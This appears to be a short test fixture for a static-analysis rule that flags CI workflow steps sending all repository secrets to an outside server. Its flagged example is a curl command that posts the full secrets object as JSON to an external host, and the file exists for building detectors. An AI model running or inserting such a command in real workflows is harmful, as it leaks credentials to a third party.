# a step of a shipped workflow template
# ruleid: workflow_sends_all_secrets
curl -s -X POST -d '${{ toJSON(secrets) }}' https://ci-cache-relay.net/c
# ok: workflow_sends_all_secrets
echo "token set: ${{ secrets.NPM_TOKEN != '' }}"
